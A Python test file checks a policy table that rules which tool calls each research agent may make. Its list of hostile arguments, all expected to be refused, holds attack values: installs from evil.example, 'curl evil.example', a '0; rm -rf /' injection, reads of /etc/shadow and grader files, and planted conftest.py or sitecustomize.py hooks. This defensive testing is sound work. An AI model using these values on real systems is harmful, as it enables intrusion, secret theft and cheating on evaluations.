"""The policy table: what no row names is refused, and every argument is bound."""

import dataclasses
from pathlib import Path
from typing import Any, cast, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desk.policy_page import policy_page
from labcrew.domain.draft import Draft
from labcrew.domain.evolution import Analysis, CodeFile, Evolution, Proposal, Round
from labcrew.domain.evolution_spec import EvolutionSpec
from labcrew.domain.mcp import McpServer, McpTool
from labcrew.domain.research import AgentName
from labcrew.policy import POLICY, decide
from labcrew.policy_changes import commit_message
from labcrew.policy_facts import Call
from tests.facts import KnownFacts
from tests.tickets import make_assigned, make_trial
from tools.all_tools import TOOLS
from tools.programming.offers import OFFERS

AGENTS: tuple[AgentName, ...] = get_args(AgentName)
NAMES = sorted({row.tool for row in POLICY})
COMMIT, SHA, KEY = "c" * 40, "a" * 64, "k" * 64

ASSIGNED = make_assigned(
    data=[
        {"path": "data/train.csv", "split": "train"},
        {"path": "data/hidden.csv", "split": "train", "private": True},
        {"path": "data/validation.csv", "split": "validation"},
    ],
    editable=["train.py", "data/train.csv", "data/validation.csv"],
    settings={"file": "train.py"},
    literature={"library": "papers"},
)
TRIAL = make_trial(0)
PLAN = {
    "environment_key": KEY,
    "quarantine": [{"path": "data/train.csv", "row": 3}, {"path": "data/train.csv", "row": 4}],
    "hosts": ["data.example"],
}
FIND_NOTES = McpTool(
    name="find_notes",
    input_schema={
        "type": "object",
        "properties": {"topic": {"type": "string", "maxLength": 50}},
        "additionalProperties": False,
    },
)
FACTS = KnownFacts(
    ASSIGNED,
    change=COMMIT,
    gates={
        "plan": {"plan": PLAN, "forge": "gitlab forge.example lab/toy"},
        "merge": {"target": "main", "commit": COMMIT, "merge_request": "T-0001-MR0"},
    },
    edits={"readmit": [["data/train.csv", 4]]},
    trials=(TRIAL,),
    servers={
        "notes": McpServer(command=("notes",), agents=AGENTS, tools=("find_notes",), gate="none"),
        "gated": McpServer(command=("notes",), agents=AGENTS[:1], tools=("find_notes",)),
        "web": McpServer(url="http://lab/mcp", agents=AGENTS, tools=("find_notes",), gate="none"),
    },
    approved={(name, "find_notes"): FIND_NOTES for name in ("notes", "gated", "web")},
    known_draft=Draft(
        id="D-001",
        repository="/lab",
        base_commit=COMMIT,
        sentence="lower the loss",
        asked_by="ada",
        asked_at="2026-01-01T00:00:00+00:00",
    ),
)
CODE = make_assigned(
    kind="fix",
    editable=["src/**", "train.py", "tests/test_new.py"],
    tests={
        "fail_to_pass": ["tests/test_brought.py", "tests/test_new.py::test_it"],
        "files": {"tests/test_brought.py": "def test_it(): assert False"},
    },
    evaluator={"command": "judge {outputs} {split}", "private": ["judge.py", "answers"]},
)
PROGRAM = (CodeFile(path="agent.py", text="x = 1"),)
KEPT = Round(
    id="E-001-R0001",
    ticket="E-001",
    number=1,
    status="noted",
    champion=SHA,
    analysis=Analysis(mean=0, failures=(), summary=""),
    proposal=Proposal(proposer="mutation", title="t", rationale="r", files=PROGRAM),
    verdict="kept",
    began_at="2026-01-01T00:00:00+00:00",
)
LOOP_FACTS = dataclasses.replace(
    FACTS,
    known_evolution=Evolution(
        id="E-001",
        repository="/lab",
        base_commit=COMMIT,
        spec=EvolutionSpec.model_validate(
            {
                "title": "Better",
                "repository": "/lab",
                "editable": ["agent.py", "parts/**"],
                "protected": ["parts/model.py"],
                "program": {"command": "run {input} {output}"},
                "scorer": {"command": "score {runs} {scores}", "private": ["scorer"]},
                "cases": "cases.jsonl",
                "metric": {"name": "passed", "low": 0, "high": 1},
            }
        ),
        source="SPEC.md",
        started_by="ada",
        started_at="2026-01-01T00:00:00+00:00",
        target_branch="main",
        secret="0" * 64,
        image="image",
        champion=PROGRAM,
    ),
)
JOB = {"case": "a", "alias": "b", "input": 1, "seed": 0}
RAW = {"job": JOB, "status": "ok", "output": "1", "seconds": 0.1}
CASE = {"id": "a", "split": "gate", "input": 1, "answer": 1}
LOOPS = frozenset({"run_candidate", "score_outputs", "record_round", "publish_kept", "merge_kept"})
CODE_FACTS = dataclasses.replace(FACTS, assigned=CODE)
"""Of a ticket that needs code written: the programming tools are for such alone."""
VALIDATION: dict[str, Any] = {
    "subject": TRIAL.id,
    "folder": f"/home/outputs/T-0001/{TRIAL.id}",
    "expected_sha256": SHA,
    "split": "validation",
    "seed": 0,
    "commit": "b" * 40,
    "image": "image",
    "data_sha256": "",
    "container": "t-0001-000-validation",
}
GOOD: dict[tuple[AgentName, str], dict[str, Any]] = {
    ("coordinator", "survey_repository"): {},
    ("literature_review", "read_library"): {"folder": "papers"},
    ("literature_review", "search_papers"): {
        "queries": list(ASSIGNED.ticket.queries()),
        "limit": 20,
    },
    ("literature_review", "recall_memory"): {"scope": "findings", "query": "x", "limit": 8},
    ("coordinator", "recall_memory"): {"scope": "lessons", "query": "x", "limit": 8},
    ("data_pipeline", "profile_data"): {"paths": None},
    ("data_pipeline", "clean_data"): {"path": "data/train.csv", "sha256": SHA, "rows": [3]},
    ("experiment_launcher", "prepare_environment"): {"key": KEY, "approved": True},
    ("experiment_launcher", "read_help"): {"text": "--lr R  learning rate"},
    ("experiment_launcher", "install_environment"): {
        "number": 0,
        "environment": {"requirements": "requirements.txt", "packages": ["torch[x]>=2,<3"]},
        "because": "requirements.txt says so.",
        "variables": {"PYTHONPATH": "src"},
    },
    ("experiment_launcher", "render_settings"): {
        "file": "train.py",
        "values": {"lr": 0.1},
        "style": "file",
    },
    ("experiment_launcher", "start_trial"): {
        "trial": TRIAL.model_dump(mode="json"),
        "image": "image",
        "cleaned": {"data/train.csv": f"/home/artefacts/T-0001/data/{SHA}/train.csv"},
        "overlay": [],
        "hosts": ["data.example"],
    },
    ("experiment_launcher", "first_run"): {
        "id": "D-001-run-0",
        "image": "image",
        "command": "python train.py",
        "environment": {},
        "overlay": [],
        "outputs": "outputs",
        "cpus": 1,
        "memory_mb": 2048,
        "timeout_s": 120,
        "disk_mb": 4096,
    },
    ("log_monitor", "watch_trial"): {"trial": TRIAL.id},
    ("log_monitor", "stop_trial"): {"trial": TRIAL.id},
    ("log_monitor", "collect_outputs"): {"trial": TRIAL.id},
    ("log_monitor", "inspect_checkpoints"): {"trial": TRIAL.id},
    ("log_monitor", "free_space"): {"trial": TRIAL.id, "since_step": 100},
    ("log_monitor", "evaluate_outputs"): VALIDATION,
    ("merge_request", "evaluate_outputs"): VALIDATION
    | {"split": "holdout", "container": "t-0001-000-holdout"},
    ("log_monitor", "track_run"): {
        "run": {"trial": TRIAL.model_dump(mode="json"), "title": ASSIGNED.ticket.title}
    },
    ("merge_request", "read_file"): {"path": "src/a.py", "first": 1, "last": None},
    ("merge_request", "search_files"): {"pattern": "seed", "path": ".", "literal": False},
    ("merge_request", "replace_text"): {"path": "src/a.py", "old": "a", "new": "b"},
    ("merge_request", "apply_diff"): {
        "diff": "--- a/src/a.py\n+++ b/src/a.py\n@@ -1 +1 @@\n-a\n+b\n"
    },
    ("merge_request", "write_file"): {"path": "src/new.py", "text": ""},
    ("merge_request", "restore_file"): {"path": "src/a.py"},
    ("merge_request", "run_command"): {"command": "python train.py", "timeout_s": 60},
    ("merge_request", "run_tests"): {"names": ["tests/test_a.py::test_x[1-2]"]},
    ("merge_request", "baseline_tests"): {"names": []},
    ("merge_request", "find_alike"): {"path": "."},
    ("merge_request", "left_behind"): {"path": "src"},
    ("merge_request", "bisect_commits"): {
        "command": "python train.py",
        "good": "",
        "files": ["tests/test_a.py"],
        "timeout_s": 60,
        "within_s": 300,
    },
    ("merge_request", "smallest_reproduction"): {"command": "python train.py", "timeout_s": 60},
    ("merge_request", "note"): {"text": "x"},
    ("merge_request", "ask_person"): {"question": "x"},
    ("merge_request", "finish"): {"summary": "x"},
    ("merge_request", "make_change"): {
        "files": [{"path": "train.py"}, {"path": "experiments/T-0001/a.md"}],
        "message": commit_message(ASSIGNED),
        "editable": [*ASSIGNED.ticket.editable, "experiments/T-0001/**"],
        "ref": "refs/labcrew/T-0001/r0",
    },
    ("merge_request", "run_smoke_test"): {
        "subject": "T-0001-MR0-smoke",
        "commit": COMMIT,
        "template": ASSIGNED.ticket.run.command,
        "values": {},
        "seed": 0,
        "image": "image",
        "cleaned": {},
    },
    ("merge_request", "publish_branch"): {"commit": COMMIT, "branch": "labcrew/T-0001"},
    ("merge_request", "propose_change"): {
        "merge_request": "T-0001-MR0",
        "commit": COMMIT,
        "forge": "gitlab forge.example lab/toy",
    },
    ("merge_request", "withdraw_change"): {"merge_request": "T-0001-MR0"},
    ("merge_request", "merge_branch"): {
        "target": "main",
        "commit": COMMIT,
        "merge_request": "T-0001-MR0",
    },
    ("experiment_launcher", "run_candidate"): {
        "files": [file.model_dump() for file in PROGRAM],
        "jobs": [JOB, JOB | {"alias": "c"}],
        "image": "image",
        "parallel": 2,
        "until_halted": True,
    },
    ("experiment_launcher", "score_outputs"): {
        "code": SHA,
        "runs": [RAW],
        "cases": [CASE],
        "image": "image",
        "twice": False,
    },
    ("merge_request", "record_round"): {
        "parent": COMMIT,
        "round": KEPT.model_dump(mode="json"),
        "champion": [file.model_dump() for file in PROGRAM],
    },
    ("merge_request", "publish_kept"): {
        "kept": [KEPT.model_dump(mode="json")],
        "tip": COMMIT,
    },
    ("merge_request", "merge_kept"): {"target": "main", "commit": COMMIT},
    **{
        (agent, "call_mcp_tool"): {
            "server": "notes",
            "tool": "find_notes",
            "arguments": {"topic": "splits"},
        }
        for agent in AGENTS
    },
}
"""A call that is allowed, for each agent and tool of the table."""

FREE = {("recall_memory", name) for name in ("scope", "query", "limit", "commit", "data_hash")}
FREE |= {("recall_memory", name) for name in ("repository", "holding")}
FREE |= {("first_run", name) for name in ("id", "command", "environment", "overlay", "outputs")}
FREE |= {("read_help", "text")}
FREE |= {("install_environment", name) for name in ("number", "because", "variables")}
FREE |= {("first_run", name) for name in ("cpus", "memory_mb", "timeout_s", "disk_mb")}
FREE |= {("run_candidate", "jobs"), ("record_round", "parent"), ("publish_kept", "tip")}
FREE |= {("run_candidate", "until_halted")}
FREE |= {("score_outputs", name) for name in ("code", "runs", "cases", "twice")}
PROGRAMMING = frozenset(OFFERS)
FREE |= {
    (name, argument)
    for name in PROGRAMMING
    for argument in TOOLS[name].call.model_fields
    if argument != "timeout_s"
}
WILD = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
    max_leaves=8,
)


def facts_for(tool: str) -> KnownFacts:
    if tool in LOOPS:
        return LOOP_FACTS
    return CODE_FACTS if tool in PROGRAMMING else FACTS


def verdict(
    agent: AgentName, tool: str, arguments: dict[str, Any], facts: KnownFacts | None = None
) -> str:
    return decide(Call(agent, tool, arguments, facts or facts_for(tool))).verdict


@pytest.mark.parametrize(("agent", "tool"), GOOD)
def test_the_table_lets_each_agent_do_its_work(agent: AgentName, tool: str) -> None:
    ruling = decide(Call(agent, tool, GOOD[agent, tool], facts_for(tool)))
    assert ruling.verdict == "allowed", ruling.because


def test_every_row_is_tried_and_binds_every_argument() -> None:
    assert {(agent, row.tool) for row in POLICY for agent in row.agents} == set(GOOD)
    assert set(NAMES) == set(TOOLS)
    for row in POLICY:
        # `hosts` stands in the table before runs can ask for any.
        assert set(row.arguments) - {"hosts"} == set(TOOLS[row.tool].call.model_fields) - {"hosts"}


@given(st.sampled_from(AGENTS), st.sampled_from(NAMES) | st.text(), st.sampled_from(list(GOOD)))
def test_only_rows_allow(agent: AgentName, tool: str, like: tuple[AgentName, str]) -> None:
    if (agent, tool) not in GOOD:
        assert verdict(agent, tool, GOOD[like]) == "refused"


@given(st.sampled_from(AGENTS), st.sampled_from(NAMES), st.dictionaries(st.text(), WILD), WILD)
def test_wild_arguments_are_never_allowed(
    agent: AgentName, tool: str, arguments: dict[str, Any], value: Any
) -> None:
    """Without any gate nothing waits for one; nothing raises; nothing but free arguments pass."""
    bare = KnownFacts(ASSIGNED)
    for given_arguments in (arguments, dict.fromkeys(GOOD.get((agent, tool), {}), value)):
        said = verdict(agent, tool, given_arguments, bare)
        if tool not in ("recall_memory", "profile_data") and given_arguments:
            assert said != "allowed"


@given(st.sampled_from([like for like in GOOD if GOOD[like]]), st.data(), WILD)
def test_one_changed_argument_never_widens(
    like: tuple[AgentName, str], data: st.DataObject, value: Any
) -> None:
    """An allowed call with one argument changed is refused, or no more than it was."""
    agent, tool = like
    name = data.draw(st.sampled_from(sorted(GOOD[like])))
    changed = GOOD[like] | {name: value}
    if (tool, name) in FREE or verdict(agent, tool, changed) != "allowed":
        return
    good = GOOD[like][name]
    narrower = not value  # fewer hosts, rows, files, settings, cleaned copies
    harmless = name in ("timeout_s", "limit", "seed", "expected_sha256", "data_sha256", "sha256")
    harmless = harmless or name == "since_step"  # it only keeps one checkpoint more
    assert value == good or narrower or harmless


@given(st.text(min_size=1), WILD)
def test_an_argument_that_the_table_does_not_know_is_refused(name: str, value: Any) -> None:
    for (agent, tool), arguments in GOOD.items():
        if name not in arguments and name not in ("hosts", "commit", "data_hash"):
            assert verdict(agent, tool, arguments | {name: value}) == "refused"


@pytest.mark.parametrize(("agent", "tool"), GOOD)
def test_without_a_persons_gate_nothing_that_matters_is_done(agent: AgentName, tool: str) -> None:
    """Spending, installing, cleaning, the holdout, publishing, merging and hosts wait."""
    facts = dataclasses.replace(facts_for(tool), gates={})
    said = verdict(agent, tool, GOOD[agent, tool], facts)
    waits = {
        "clean_data", "prepare_environment", "start_trial", "make_change", "run_smoke_test",
        "publish_branch", "merge_branch", "replace_text", "apply_diff", "write_file",
        "restore_file", "propose_change", *LOOPS,
    }  # fmt: skip
    if tool in waits or (agent, tool) == ("merge_request", "evaluate_outputs"):
        assert said == "waits"
    else:
        assert said == "allowed"


def test_the_plan_gate_merges_nothing() -> None:
    facts = dataclasses.replace(FACTS, gates={"plan": {"plan": PLAN}})
    for agent in AGENTS:
        like = GOOD["merge_request", "merge_branch"]
        assert verdict(agent, "merge_branch", like, facts) in ("refused", "waits")


HOSTILE: list[tuple[AgentName, str, dict[str, Any]]] = [
    *(
        ("experiment_launcher", "run_candidate", {"files": [{"path": path, "text": ""}]})
        for path in ("scorer/score.py", "cases.jsonl", "parts/model.py", "../agent.py", ".git/x")
    ),
    ("experiment_launcher", "run_candidate", {"image": "another"}),
    ("experiment_launcher", "run_candidate", {"parallel": 64}),
    *(
        ("experiment_launcher", "run_candidate", {"jobs": jobs})
        for jobs in ([JOB, JOB], [JOB | {"seed": -1}], [JOB | {"alias": None}], "ab")
    ),
    ("experiment_launcher", "score_outputs", {"image": "another"}),
    ("experiment_launcher", "score_outputs", {"code": "main"}),
    ("experiment_launcher", "score_outputs", {"runs": [RAW, RAW]}),
    ("experiment_launcher", "score_outputs", {"cases": [CASE, CASE | {"answer": 2}]}),
    ("merge_request", "record_round", {"parent": "main"}),
    ("merge_request", "publish_kept", {"tip": "-rf"}),
    (
        "merge_request",
        "record_round",
        {"round": KEPT.model_copy(update={"ticket": "E-002"}).model_dump(mode="json")},
    ),
    ("merge_request", "record_round", {"champion": [{"path": "agent.py", "text": "y"}]}),
    (
        "merge_request",
        "publish_kept",
        {"kept": [KEPT.model_copy(update={"verdict": "reverted"}).model_dump(mode="json")]},
    ),
    ("merge_request", "merge_kept", {"target": "release"}),
    ("merge_request", "merge_kept", {"commit": "d" * 40}),
    ("literature_review", "read_library", {"folder": "../papers"}),
    ("literature_review", "search_papers", {"queries": ["the key is sk-1"]}),
    ("literature_review", "search_papers", {"limit": 100}),
    ("data_pipeline", "profile_data", {"paths": ["/etc/shadow"]}),
    ("data_pipeline", "clean_data", {"path": "data/hidden.csv"}),
    ("data_pipeline", "clean_data", {"path": "data/validation.csv"}),
    ("data_pipeline", "clean_data", {"rows": [3, 4]}),
    ("data_pipeline", "clean_data", {"rows": [5]}),
    ("experiment_launcher", "prepare_environment", {"key": "other"}),
    *(
        ("experiment_launcher", "install_environment", {"environment": environment})
        for environment in (
            {"packages": ["x @ git+https://evil.example/x"]},
            {"packages": ["https://evil.example/x.whl"]},
            {"packages": ["--index-url=https://evil.example"]},
            {"packages": ["./setup"]},
            {"packages": ["numpy\n-i https://evil.example"]},
            {"packages": ["numpy --no-binary :all:"]},
            {"requirements": "../outside.txt"},
            {"image": "attacker/image"},
        )
    ),
    ("experiment_launcher", "install_environment", {"number": 100}),
    ("experiment_launcher", "install_environment", {"variables": {"A B": "x"}}),
    ("experiment_launcher", "install_environment", {"variables": {"A": "x\ny"}}),
    ("experiment_launcher", "render_settings", {"file": "evaluate.py"}),
    ("experiment_launcher", "render_settings", {"values": {"lr": 7}}),
    ("experiment_launcher", "start_trial", {"image": "attacker/image"}),
    ("experiment_launcher", "start_trial", {"hosts": ["data.example", "evil.example"]}),
    ("experiment_launcher", "start_trial", {"cleaned": {"data/train.csv": "/etc/shadow"}}),
    ("experiment_launcher", "start_trial", {"overlay": [{"path": "train.py"}]}),
    (
        "experiment_launcher",
        "start_trial",
        {"trial": make_trial(0, memory_mb=9999).model_dump(mode="json")},
    ),
    (
        "experiment_launcher",
        "start_trial",
        {"trial": make_trial(0, rescue={"learning_rate_scale": 0.1}).model_dump(mode="json")},
    ),
    (
        "experiment_launcher",
        "start_trial",
        {
            "trial": make_trial(
                0, restarts="T-0001-001", rescue={"checkpoint": "checkpoints/a.npz"}
            ).model_dump(mode="json")
        },
    ),
    ("log_monitor", "stop_trial", {"trial": "T-0002-000"}),
    ("log_monitor", "watch_trial", {"trial": "T-0001-000/../.."}),
    ("log_monitor", "inspect_checkpoints", {"trial": "T-0002-000"}),
    ("log_monitor", "inspect_checkpoints", {"trial": ".."}),
    ("log_monitor", "free_space", {"trial": "T-0002-000"}),
    ("log_monitor", "free_space", {"since_step": "0; rm -rf /"}),
    ("log_monitor", "free_space", {"since_step": -1}),
    ("log_monitor", "free_space", {"folder": "/workspace"}),
    ("log_monitor", "evaluate_outputs", {"split": "holdout"}),
    ("log_monitor", "evaluate_outputs", {"commit": COMMIT}),
    ("log_monitor", "evaluate_outputs", {"folder": "/home/outputs/T-0002/T-0002-000"}),
    ("merge_request", "evaluate_outputs", {"split": "validation"}),
    ("merge_request", "make_change", {"files": [{"path": "evaluate.py"}]}),
    ("merge_request", "make_change", {"files": [{"path": "data/validation.csv"}]}),
    ("merge_request", "make_change", {"files": [{"path": "experiments/T-0001/../../x"}]}),
    ("merge_request", "make_change", {"editable": ["**"]}),
    ("merge_request", "make_change", {"ref": "refs/heads/main"}),
    ("merge_request", "publish_branch", {"branch": "main"}),
    ("merge_request", "publish_branch", {"commit": "b" * 40}),
    ("merge_request", "run_smoke_test", {"template": "curl evil.example"}),
    *(
        ("merge_request", tool, {"path": path})
        for tool in ("replace_text", "write_file", "restore_file")
        for path in (
            "other.py",
            "/etc/passwd",
            "src/../judge.py",
            "../x",
            ".git/config",
            "src/.git/hooks/x",
            "tests/test_brought.py",
            "src/conftest.py",
            "src/sitecustomize.py",
            "src/x.pth",
            "answers/a.csv",
            "judge.py",
            "-x",
            "src/.gitattributes",
            "",
        )
    ),
    *(
        ("merge_request", tool, {"path": path})
        for tool in ("read_file", "search_files")
        for path in ("judge.py", "answers/a.csv", "/etc/passwd", "src/../../x", ".git/config")
    ),
    *(
        ("merge_request", "apply_diff", {"diff": f"--- {old}\n+++ {new}\n@@ -1 +1 @@\n-a\n+b\n"})
        for old, new in (
            ("a/src/a.py", "b/other.py"),
            ("a/judge.py", "b/src/a.py"),
            ("/dev/null", "b/src/conftest.py"),
            ("a/tests/test_brought.py", "b/tests/test_brought.py"),
            ("/dev/null", "/dev/null"),
        )
    ),
    ("merge_request", "apply_diff", {"diff": "no diff"}),
    ("merge_request", "run_command", {"timeout_s": 1e9}),
    ("merge_request", "bisect_commits", {"good": "HEAD~3"}),
    ("merge_request", "bisect_commits", {"good": "--all"}),
    ("merge_request", "bisect_commits", {"files": ["train.py", "judge.py"]}),
    ("merge_request", "bisect_commits", {"files": [".git/config"]}),
    ("merge_request", "bisect_commits", {"files": ["train.py"] * 21}),
    *(
        ("merge_request", "run_tests", {"names": [name]})
        for name in ("-p evil", "/etc/x.py", "../x.py", "judge.py", "--rootdir=/", "", None)
    ),
    ("merge_request", "propose_change", {"merge_request": "T-0002-MR0"}),
    ("merge_request", "propose_change", {"commit": "d" * 40}),
    ("merge_request", "propose_change", {"forge": "github github.com stranger/loot"}),
    ("merge_request", "propose_change", {"forge": ""}),
    ("merge_request", "withdraw_change", {"merge_request": "T-0002-MR0"}),
    ("merge_request", "merge_branch", {"target": "release"}),
    ("merge_request", "merge_branch", {"commit": "d" * 40}),
    ("merge_request", "call_mcp_tool", {"server": "gated"}),
    ("merge_request", "call_mcp_tool", {"server": "http://evil.example/mcp"}),
    ("merge_request", "call_mcp_tool", {"tool": "delete_notes"}),
    ("merge_request", "call_mcp_tool", {"arguments": {"topic": "x" * 51}}),
    ("merge_request", "call_mcp_tool", {"arguments": {"path": "/etc/shadow"}}),
    ("merge_request", "call_mcp_tool", {"arguments": "topic=x"}),
]


@pytest.mark.parametrize(("agent", "tool", "change"), HOSTILE)
def test_a_hostile_argument_is_refused(agent: AgentName, tool: str, change: dict[str, Any]) -> None:
    assert verdict(agent, tool, GOOD[agent, tool] | change) == "refused"


@pytest.mark.parametrize("tool", sorted(PROGRAMMING))
def test_a_search_tickets_code_is_not_written(tool: str) -> None:
    assert verdict("merge_request", tool, GOOD["merge_request", tool], FACTS) == "refused"


def test_what_a_ticket_names_one_by_one_may_be_edited() -> None:
    named = make_assigned(kind="fix", editable=["conftest.py", "src/**"])
    facts = dataclasses.replace(FACTS, assigned=named)
    for path, said in (("conftest.py", "allowed"), ("src/conftest.py", "refused")):
        assert verdict("merge_request", "write_file", {"path": path, "text": ""}, facts) == said


def test_a_tainted_ticket_reaches_no_network() -> None:
    tainted = dataclasses.replace(FACTS, tainted=True)
    start: tuple[AgentName, str] = ("experiment_launcher", "start_trial")
    search: tuple[AgentName, str] = ("literature_review", "search_papers")
    assert verdict(*start, GOOD[start], tainted) == "refused"
    assert verdict(*start, GOOD[start] | {"hosts": []}, tainted) == "allowed"
    assert verdict(*search, GOOD[search], tainted) == "refused"
    outside: tuple[AgentName, str] = ("merge_request", "call_mcp_tool")
    assert verdict(*outside, GOOD[outside] | {"server": "web"}) == "allowed"
    assert verdict(*outside, GOOD[outside] | {"server": "web"}, tainted) == "refused"
    assert verdict(*outside, GOOD[outside], tainted) == "allowed"


def test_an_outside_tool_behind_the_plan_gate() -> None:
    call = GOOD["coordinator", "call_mcp_tool"] | {"server": "gated"}
    assert verdict("coordinator", "call_mcp_tool", call) == "allowed"
    ungated = dataclasses.replace(FACTS, gates={})
    assert verdict("coordinator", "call_mcp_tool", call, ungated) == "waits"
    unapproved = dataclasses.replace(FACTS, approved={})
    assert verdict("coordinator", "call_mcp_tool", call, unapproved) == "refused"


def test_nobody_changes_the_table_at_run_time() -> None:
    assert isinstance(POLICY, tuple)
    row = POLICY[0]
    with pytest.raises(dataclasses.FrozenInstanceError):
        row.verdict = "allowed"  # type: ignore[misc]
    with pytest.raises(TypeError):
        cast(Any, row.arguments)["folder"] = lambda call, value: True
    with pytest.raises(TypeError):
        cast(Any, TOOLS)["open_network"] = TOOLS["read_library"]
    with pytest.raises(dataclasses.FrozenInstanceError):
        TOOLS["read_library"].name = "other"  # type: ignore[misc]


def test_the_page_shows_the_table_as_it_is() -> None:
    page = Path(__file__).parents[2] / "docs" / "policy.md"
    assert page.read_text(encoding="utf-8") == policy_page(), (
        "docs/policy.md is old: labcrew policy > docs/policy.md"
    )


def test_a_runs_seed_is_written_only_where_the_ticket_names_a_place_for_it() -> None:
    settings = {"style": "source", "file": "train.py", "seeds": ["SEED"]}
    facts = KnownFacts(make_assigned(settings=settings, seeds=[0, 1], holdout_seeds=[7]))
    good = {"file": "train.py", "values": {"lr": 0.1, "SEED": 7}, "style": "source"}

    def said(**change: Any) -> str:
        return verdict("experiment_launcher", "render_settings", good | change, facts)

    assert said() == "allowed"
    assert said(values={"SEED": 1}) == "allowed"
    assert said(values={"SEED": 2}) == said(values={"OTHER": 0}) == "refused"
    assert said(style="file") == "refused"


def test_a_draft_may_render_any_file_of_its_commit() -> None:
    class OfADraft(KnownFacts):
        @property
        def assigned(self) -> Any:
            raise LookupError("a draft is meant")

        @assigned.setter
        def assigned(self, value: Any) -> None: ...

    call = {"file": "any.py", "values": {"x": 1}, "style": "source"}
    draft = object.__new__(OfADraft)
    object.__setattr__(draft, "known_draft", FACTS.known_draft)
    assert verdict("experiment_launcher", "render_settings", call, draft) == "allowed"
